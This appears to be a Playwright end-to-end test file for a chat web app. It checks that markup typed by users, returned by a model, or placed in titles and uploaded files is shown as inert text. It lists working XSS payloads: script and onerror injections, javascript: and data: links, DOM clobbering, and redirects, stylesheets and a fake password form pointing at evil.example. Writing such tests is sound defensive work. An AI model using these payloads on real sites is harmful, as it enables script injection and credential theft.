"""Text that would like to be code stays text, wherever a person or a model may put it."""

from __future__ import annotations

import sqlite3

import pytest
from playwright.sync_api import expect

from tests.e2e.conftest import sign_in
from tests.e2e.steps import TABLE, answered, attach_table, make_workspace, own, send, settled, stored, watch

RUNS = "window.__x=1"
PAYLOADS = [
    f"<script>{RUNS}</script>",
    '<iframe srcdoc="<script>parent.__x=1</script>"></iframe>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "<style>@import url(https://evil.example/x.css);body{display:none}</style>",
    '<form action="https://evil.example/"><input name=password autofocus><button>Sign in</button></form>',
    f'<object data="javascript:{RUNS}"></object>',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    f'<embed src="javascript:{RUNS}">',
    f"<img src=x onerror={RUNS}>",
    '<img name=getElementById><a id=jambot href="https://evil.example/">clobbered</a>',
    f'<a href="javascript:{RUNS}">raw link</a>',
    f'<a href="data:text/html,<script>{RUNS}</script>">data link</a>',
    f"<svg onload={RUNS}><script>{RUNS}</script></svg>",
    f"<math><mtext><img src=x onerror={RUNS}></mtext></math>",
    f"<template><img src=x onerror={RUNS}></template>",
    '<base href="https://evil.example/">',
    "![remote](https://evil.example/pixel.png)",
    f"[a link](javascript:{RUNS}) and [data](data:text/html;base64,PHNjcmlwdD4=)",
    f"```html\n<img src=x onerror={RUNS}>\n```",
]
ALL = "\n\n".join(PAYLOADS)
ONE_LINE = f'"><img src=x onerror={RUNS}><script>{RUNS}</script>'


@pytest.fixture
def watched(server, person, new_context):
    """A page whose every error, dialog and foreign request is noted, and the notes."""
    context = new_context()
    seen = watch(context, server.url)
    page = context.new_page()
    sign_in(page, server, person, "/new")
    return page, seen


def is_unharmed(page, seen):
    """Nothing ran, nothing was asked of strangers, and the page still takes a message."""
    assert page.evaluate("window.__x") is None
    assert seen.dialogs == []
    assert seen.foreign == []
    assert seen.errors == []
    assert page.evaluate("typeof document.getElementById") == "function"
    assert page.locator("main iframe, main object, main embed, main form form, main meta, main base").count() == 0
    send(page, "Still here")
    expect(own(page, "Still here")).to_have_count(1)


def test_a_message_and_a_draft_of_markup_are_text(client, watched):
    page, seen = watched
    send(page, ALL)
    page.wait_for_url("**/w/*")
    settled(page)
    expect(page.locator("[data-role=user] .bubble").first).to_contain_text("<script>")
    page.locator("#composer").fill(ALL)
    page.reload()
    expect(page.locator("#composer")).to_have_value(ALL)
    is_unharmed(page, seen)


def test_an_answer_of_markup_is_text_and_its_links_lead_nowhere_dangerous(server, client, watched):
    page, seen = watched
    send(page, "Hello")
    page.wait_for_url("**/w/*")
    answered(page)
    workspace_id = page.url.rsplit("/", 1)[-1]
    answer = stored(client, workspace_id)[-1]
    # What a model says cannot be chosen here, so a hostile model's words are put where they would be kept.
    with sqlite3.connect(server.data_dir / "jambot.db", timeout=10) as database:
        database.execute("UPDATE chat_messages SET content = ? WHERE id = ?", (ALL, answer["id"]))
    database.close()

    page.reload()

    prose = page.locator("[data-role=assistant] .prose").first
    expect(prose).to_contain_text("a link")
    addresses = prose.locator("a").evaluate_all("links => links.map(each => each.href)")
    assert not [each for each in addresses if each.startswith(("javascript:", "data:"))]
    page.evaluate("window.stayed = true")
    for words in prose.get_by_text("a link").all():
        words.click()
    # What is left of such a link is its words: nothing loads the page anew.
    assert page.evaluate("window.stayed") is True
    is_unharmed(page, seen)


def test_a_title_of_markup_is_text_everywhere_it_is_shown(server, client, watched):
    page, seen = watched
    workspace_id = make_workspace(client, ONE_LINE)
    page.goto(f"{server.url}/w/{workspace_id}")
    expect(page.locator("#title")).to_have_value(ONE_LINE)
    expect(page.locator("#session-list")).to_contain_text("<script>")
    page.goto(f"{server.url}/history")
    expect(page.locator("#history-table")).to_contain_text("<script>")
    client.delete(f"/api/sessions/{workspace_id}")
    page.goto(f"{server.url}/trash")
    expect(page.locator("main")).to_contain_text("<script>")
    page.goto(f"{server.url}/new")
    page.locator("#workspace[data-loading=false]").wait_for()
    is_unharmed(page, seen)


def test_a_file_name_and_a_file_of_markup_are_text(client, watched):
    page, seen = watched
    attach_table(page, "x.csv")
    page.wait_for_url("**/w/*")
    workspace_id = page.url.rsplit("/", 1)[-1]
    for name, content, kind in (
        (
            "<img src=x onerror=window.__x=1>.csv",
            TABLE.replace(b"channel", f"<img src=x onerror={RUNS}>".encode(), 1),
            "text/csv",
        ),
        ("page.html", f"<script>parent.__x=1;{RUNS}</script>".encode(), "text/html"),
        ("notes.md", ALL.encode(), "text/markdown"),
    ):
        answer = client.post("/api/assets/", data={"workspace_id": workspace_id}, files={"file": (name, content, kind)})
        assert answer.status_code in {201, 415, 422}, answer.text
    page.reload()
    page.locator("#tab-assets").click()
    rows = page.locator("#panel-assets .asset-row")
    expect(rows.first).to_be_visible()
    for row in rows.all():
        row.click()
        expect(page.locator("#panel-assets section[aria-label] h2.med")).to_have_text(row.locator(".med").inner_text())
    send(page, "What is in this table?")
    settled(page)
    is_unharmed(page, seen)
